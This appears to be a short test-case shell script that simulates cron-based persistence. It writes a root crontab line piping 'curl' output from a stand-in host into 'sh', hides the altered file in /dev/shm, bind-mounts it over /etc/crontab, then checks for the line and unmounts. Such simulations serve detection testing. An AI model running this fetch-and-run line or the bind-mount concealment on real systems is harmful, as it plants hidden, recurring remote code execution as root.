#!/bin/sh
. /opt/case/case.sh

cp -p /etc/crontab /dev/shm/.t
echo '* * * * * root curl -s http://203.0.113.10/payload.sh | sh' >>/dev/shm/.t
mount --bind /dev/shm/.t /etc/crontab
grep -q payload /etc/crontab
umount /etc/crontab
took_place
